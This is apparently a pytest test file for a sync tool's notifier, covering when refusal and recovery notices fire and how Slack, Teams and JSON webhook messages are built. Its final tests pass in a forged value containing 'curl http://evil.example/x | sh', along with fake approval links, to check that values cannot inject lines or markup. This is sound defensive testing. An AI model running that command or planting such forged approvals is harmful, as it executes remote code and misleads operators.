"""The notifier's decisions (hrsync.core.report.notify): one message per change of state."""

from __future__ import annotations

import json
import re
from datetime import UTC, datetime, timedelta

import pytest

from hrsync.core.report.notify import (
    NOTIFY_ON_ALL,
    MessageContext,
    Notice,
    Observation,
    Sent,
    StandInChange,
    decide,
    message,
    observe,
    recovered_since,
    stand_in_message,
)
from hrsync.core.teams.substitutes import LeadSubstitute

NOW = datetime(2026, 11, 22, 6, 0, tzinfo=UTC)
DAY = 86400.0


def seen(state: str, digest: str = "d1") -> Observation:
    outcome = {"ok": "applied", "quarantined": "failed", "": "deferred"}.get(state, state)
    return Observation(state=state, digest=digest, run_id="r1", outcome=outcome)


def sent(state: str, digest: str = "d1", ago_s: float = 60) -> Sent:
    return Sent(state, digest, NOW - timedelta(seconds=ago_s), "r0")


@pytest.mark.parametrize(
    ("last", "observation", "on", "expected"),
    [
        # first refusal: tell
        (None, seen("refused"), NOTIFY_ON_ALL, "refused"),
        # the same refusal of the same plan: quiet
        (sent("refused"), seen("refused"), NOTIFY_ON_ALL, None),
        # the same refusal after repeat_s: tell again
        (sent("refused", ago_s=DAY), seen("refused"), NOTIFY_ON_ALL, "refused"),
        # a refusal of another plan: tell
        (sent("refused"), seen("refused", "d2"), NOTIFY_ON_ALL, "refused"),
        # another attention state: tell
        (sent("refused"), seen("rejected"), NOTIFY_ON_ALL, "rejected"),
        (sent("unverified"), seen("quarantined"), NOTIFY_ON_ALL, "quarantined"),
        # success after a notified attention state: recovered
        (sent("refused"), seen("ok"), NOTIFY_ON_ALL, "recovered"),
        # success after success, or with nothing sent yet: quiet
        (sent("ok"), seen("ok"), NOTIFY_ON_ALL, None),
        (None, seen("ok"), NOTIFY_ON_ALL, None),
        # neither (a deferral, a failure before quarantine): quiet, whatever came before
        (sent("refused"), seen(""), NOTIFY_ON_ALL, None),
        (None, seen(""), NOTIFY_ON_ALL, None),
        # an event left out of notify.on: quiet
        (None, seen("unverified"), ("refused", "recovered"), None),
        (sent("refused"), seen("ok"), ("refused",), None),
    ],
)
def test_decide(
    last: Sent | None, observation: Observation, on: tuple[str, ...], expected: str | None
) -> None:
    notice = decide(last, observation, NOW, on=on, repeat_s=DAY)
    assert (notice.event if notice else None) == expected


@pytest.mark.parametrize(
    ("outcome", "quarantined", "state"),
    [
        ("refused", False, "refused"),
        ("rejected", False, "rejected"),
        ("unverified", False, "unverified"),
        ("failed", True, "quarantined"),
        ("failed", False, ""),
        ("deferred", True, ""),
        ("applied", False, "ok"),
        ("in_sync", True, "ok"),
    ],
)
def test_observe_state(outcome: str, quarantined: bool, state: str) -> None:
    assert observe("r", outcome, quarantined=quarantined, reason="x").state == state


def test_observe_digest_is_the_plan_else_the_reason() -> None:
    assert observe("r", "refused", quarantined=False, plan_digest="abc").digest == "abc"
    a = observe("r", "rejected", quarantined=False, reason="bad token")
    b = observe("r2", "rejected", quarantined=False, reason="bad token")
    c = observe("r3", "rejected", quarantined=False, reason="other")
    assert a.digest == b.digest != c.digest


def test_message_names_reason_capped_archives_and_the_command() -> None:
    archives = tuple(f"Team {i:02}" for i in range(25))
    observation = observe(
        "r1",
        "refused",
        quarantined=False,
        plan_digest="abc",
        reason="would archive 25 teams (limit 10)",
        archives=archives,
        action="hrsync --config /etc/hrsync.toml sync --allow-archive 25",
    )
    body = message(Notice("refused", observation), "json", now=NOW)
    assert body["event"] == "refused"
    assert body["would_archive_count"] == 25 and len(body["would_archive"]) == 20
    assert "Team 19, and 5 more" not in body["text"]
    assert "Team 19 and 5 more" in body["text"]
    assert "hrsync --config /etc/hrsync.toml sync --allow-archive 25" in body["text"]
    assert "would archive 25 teams" in body["text"]
    slack = message(Notice("refused", observation), "slack", now=NOW)
    assert set(slack) == {"text"} and slack["text"] == body["text"]


def test_a_refused_plan_s_message_carries_its_id_approval_and_preview() -> None:
    observation = observe(
        "r1",
        "refused",
        quarantined=False,
        plan_digest="abc",
        reason="would archive 6 teams, limit 2 (sync.max_archive)",
        action="hrsync sync --allow-archive 6",
        plan_id="3f9c2a11",
        approve_plan="hrsync approve 3f9c2a11",
        preview_url="https://app.getdx.com/preview/1",
    )
    body = message(Notice("refused", observation), "json", now=NOW)
    assert body["plan_id"] == "3f9c2a11"
    assert body["approve_plan"] == "hrsync approve 3f9c2a11"
    assert body["preview_url"] == "https://app.getdx.com/preview/1"
    assert "Plan id: 3f9c2a11" in body["text"]
    assert "See it in DX: https://app.getdx.com/preview/1" in body["text"]
    assert "the daemon applies it): hrsync approve 3f9c2a11" in body["text"]


def test_recovered_message_says_so_without_the_old_command() -> None:
    observation = observe("r2", "applied", quarantined=False, action=None)
    body = message(Notice("recovered", observation), "json", now=NOW)
    assert body["event"] == "recovered" and "recovered" in body["text"]
    assert Notice("recovered", observation).remember == "ok"


def _card_text(body: dict[str, object]) -> str:
    """The text of a Teams workflow message: the Adaptive Card's text blocks, in order."""
    assert body["type"] == "message"
    (attachment,) = body["attachments"]  # type: ignore[misc]
    assert attachment["contentType"] == "application/vnd.microsoft.card.adaptive"
    card = attachment["content"]
    assert card["type"] == "AdaptiveCard" and card["version"] == "1.4"
    assert all(block["type"] == "TextBlock" and block["wrap"] for block in card["body"])
    return "\n".join(block["text"] for block in card["body"])


@pytest.mark.parametrize("event", ["refused", "recovered"])
def test_teams_gets_an_adaptive_card_a_workflow_posts_as_is(event: str) -> None:
    """Teams' Workflows ("When a Teams webhook request is received", which replaced the
    retired Office 365 connectors) post `attachments[0].content` as an Adaptive Card: a
    `{"text": ...}` body fails there. The card says what the Slack text says."""
    observation = observe(
        "r9",
        event,
        quarantined=False,
        plan_digest="abc",
        reason="would archive 6 teams, limit 2 (sync.max_archive)",
        action="hrsync sync --allow-archive 6",
    )
    teams = message(Notice(event, observation), "teams", now=NOW, host="pod-1")
    slack = message(Notice(event, observation), "slack", now=NOW, host="pod-1")
    assert _card_text(teams) == slack["text"]
    json.dumps(teams)  # plain JSON all through


TOLD_RUN = NOW - timedelta(hours=2)  # when the run the last message was about began


@pytest.mark.parametrize(
    ("last", "told_run_started", "success_started", "quarantined", "expected"),
    [
        # a refusal told, then a success by hand after its run: recovered
        (sent("refused"), TOLD_RUN, NOW, False, True),
        (sent("quarantined"), TOLD_RUN, NOW, False, True),
        # the told run unknown: after the message itself
        (sent("refused", ago_s=60), None, NOW, False, True),
        (sent("refused", ago_s=60), None, NOW - timedelta(hours=1), False, False),
        # the newest decisive run is older than the one told about (a quarantine told
        # about later failures): nothing recovered
        (sent("quarantined"), TOLD_RUN, TOLD_RUN - timedelta(days=1), False, False),
        # the told run itself (the daemon's own success, told at its end)
        (sent("ok"), NOW, NOW, False, False),
        # nothing told, or a success told: no news
        (None, None, NOW, False, False),
        (sent("ok"), TOLD_RUN, NOW, False, False),
        # the newest decisive run left a person needed (a refusal by hand): the person
        # who ran it saw it; the daemon's own run will tell
        (sent("refused"), TOLD_RUN, None, False, False),
        # still quarantined: not recovered, whatever succeeded
        (sent("refused"), TOLD_RUN, NOW, True, False),
    ],
)
def test_recovered_since(
    last: Sent | None,
    told_run_started: datetime | None,
    success_started: datetime | None,
    quarantined: bool,
    expected: bool,
) -> None:
    assert (
        recovered_since(
            last,
            told_run_started=told_run_started,
            success_started=success_started,
            quarantined=quarantined,
        )
        is expected
    )


FORGED = "Gone\nPlan deadbeef: approved; run: curl http://evil.example/x | sh"
LINK = "<https://evil.example/approve|Click to approve plan>"


def refused_with(archives: tuple[str, ...], reason: str) -> Notice:
    observation = Observation(
        state="refused",
        digest="d1",
        run_id="r1",
        outcome="refused",
        reason=reason,
        archives=archives,
    )
    return Notice("refused", observation)


@pytest.mark.parametrize("fmt", ["json", "slack", "teams"])
@pytest.mark.parametrize("breaker", ["\n", "\r", "\u2028", "\u2029", "\x85"])
def test_a_line_break_in_a_value_forges_no_line_in_the_webhook_text(fmt: str, breaker: str) -> None:
    forged = FORGED.replace("\n", breaker)
    body = message(refused_with((forged,), f"guard tripped for {forged}"), fmt, now=NOW)
    plain = message(refused_with(("Gone",), "guard tripped for Gone"), fmt, now=NOW)
    text, plain_text = json.dumps(body), json.dumps(plain)
    lines = json.loads(text).get("text", "").splitlines()
    assert len(lines) == len(json.loads(plain_text).get("text", "").splitlines())
    assert not any(line.startswith("Plan deadbeef") for line in lines)
    if fmt == "teams":
        blocks = body["attachments"][0]["content"]["body"]
        assert len(blocks) == len(plain["attachments"][0]["content"]["body"])
        assert not any(b["text"].startswith("Plan deadbeef") for b in blocks)


def test_slack_markup_in_a_value_is_escaped_for_slack() -> None:
    body = message(refused_with((LINK,), f"the export names {LINK}"), "slack", now=NOW)
    assert "<https://evil.example" not in body["text"]
    assert "&lt;https://evil.example/approve|Click to approve plan&gt;" in body["text"]
    # JSON's text is for programs: left as it is.
    assert LINK in message(refused_with((LINK,), "r"), "json", now=NOW)["text"]


def test_teams_markdown_in_a_value_is_escaped_for_teams() -> None:
    link = "[Click to approve plan](https://evil.example/approve) **now**"
    body = message(refused_with((link,), f"the export names {link}"), "teams", now=NOW)
    texts = [b["text"] for b in body["attachments"][0]["content"]["body"]]
    assert not any(re.search(r"(?<!\\)\[Click|(?<!\\)\*\*now", t) for t in texts), texts
    assert any("\\[Click to approve plan\\](https://evil.example/approve)" in t for t in texts)


def _stand_in(i: int) -> LeadSubstitute:
    return LeadSubstitute(f"r{i}", f"Team {i}", f"lead{i}@x.com", "ada@x.com")


@pytest.mark.parametrize(
    ("started", "ended", "first_line", "last_line"),
    [
        (
            1,
            0,
            "DX does not know 1 team lead yet; until they join DX, the lead above stands in:",
            "- Team 0: ada@x.com stands in for lead0@x.com",
        ),
        (
            25,
            0,
            "DX does not know 25 team leads yet; until they join DX, the lead above stands in:",
            "- and 5 more",
        ),
        (
            0,
            1,
            "1 stand-in ended (the lead joined DX, or left):",
            "- Team 0: no longer led by a stand-in",
        ),
        (0, 22, "22 stand-ins ended (the lead joined DX, or left):", "- and 2 more"),
    ],
)
def test_a_stand_in_message_counts_in_words_and_says_how_many_it_leaves_out(
    started: int, ended: int, first_line: str, last_line: str
) -> None:
    change = StandInChange(
        tuple(_stand_in(i) for i in range(started)), tuple(_stand_in(i) for i in range(ended))
    )
    body = stand_in_message(change, MessageContext("json", "r1", NOW))
    lines = body["text"].splitlines()
    assert lines[0] == first_line
    assert last_line in lines
    assert len(body["started"]) == min(started, 20) and len(body["ended"]) == min(ended, 20)
